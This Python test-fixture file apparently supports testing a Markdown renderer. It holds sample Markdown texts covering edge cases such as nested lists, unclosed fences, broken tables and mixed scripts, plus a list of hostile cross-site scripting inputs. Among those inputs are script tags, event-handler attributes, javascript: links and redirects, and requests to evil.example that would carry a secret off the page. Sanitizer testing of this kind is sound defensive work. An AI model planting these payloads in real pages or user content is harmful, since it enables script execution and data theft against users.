"""Texts as models write them, well and badly."""

TEXTS = {
    "everything": """# Title of *it*

A paragraph with **bold**, `code`, a [link](https://example.org/a_b "title") and https://auto.example.org too.
Second line with snake_case and an & and &amp; and 2 * 3.

## Lists

1. One
2. Two
   - nested
   - more `code`

     with a paragraph
3. Three

- [x] done
- [ ] to do

* loose

* list

```python
def f(x: int) -> str:
    # a comment, and a line that is wider than any phone: it scrolls by itself, and takes nothing else with it
    return f"{x}\\n"
```

| a | b |
|---|:-:|
| 1 | `x|y` |
| 2 | **3** |

> A quote
> - with a list
>
> ```js
> let x = 1;
> ```

Setext
======

Another
-------

***

<div>raw <b>html</b></div>

Term<br>and ![image](https://example.org/x.png) end.

""",
    "code with blank lines": (
        "Intro:\n\n```xml\n<a>\n\n\n  <b x='1'/>\n\n</a>\n```\n\nAfter.\n\n~~~\nplain\n\n# no\n~~~\n"
    ),
    "an unclosed fence": 'Look:\n\n```json\n{"a": [1, 2,\n\n3]}\n',
    "numbered list that goes on": "1. one\n\n2. two\n\n\n3. three\n\n   more of three\n\n10. ten\n\nend\n",
    "indented code": "para\n\n    code\n\n    more\n\npara\n- a\n\n      code in list\n",
    "windows line ends": "# A\r\n\r\n- b\r\n- c\r\n\r\ntext\r\nmore\r\n",
    "html blocks": (
        "<details>\n<summary>S</summary>\n\nt **b**\n\n</details>\n\n<!-- a\n\nb -->\nc\n<script>\nx\n\ny</script>\n"
    ),
    "tables cut": "before\n\n|h1|h2|\n|-|-|\n|a|b|\n|c\n\nafter | not | table\n\n|x|\n|-|\n",
    "other scripts": "שלום **עולם**\n\n- 日本語の文\n- emoji 👩‍👩‍👧‍👦 and é\n\n| ا | ب |\n|-|-|\n| ١ | ٢ |\n",
    "late references": "See [one][1] and [two].\n\nMore text.\n\n- item [one][1]\n\n[1]: https://example.org/1\n[two]: https://example.org/2\n",
    "emphasis in pieces": "*a **b** c* and **d *e* f** and ***g***\n\n**not closed\n\n_x_y_ and __z__\n",
    "only spaces and ends": "a\n\n\n   \n\n\n\nb\n \n  \nc",
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><style>@import 'https://evil.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href='https://evil.example/'>",
    "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) [y](  java\nscript:alert(1))",
    "![x](https://evil.example/?q=secret) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
    '[a](https://ok.example/"onmouseover="alert(1)) [b](https://ok.example/ \'x" onclick="alert(1)\')',
    "```html\n<script>alert(1)</script><img src=https://evil.example/>\n```",
    '```"><img/src=x onerror=alert(1)>\nx\n```',
    "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)></form>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "<https://evil.example/><javascript:alert(1)> [x]: javascript:alert(1)\n\n[x]: javascript:alert(1)\n[x]",
    "<div id=app></div><form id=app name=body></form><math><mtext><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; <!--><script>alert(1)</script>-->",
    "- <script>\n  alert(1)\n\n> <object data='javascript:alert(1)'>\n\n<meta http-equiv=refresh content='0;url=https://evil.example'>",
]
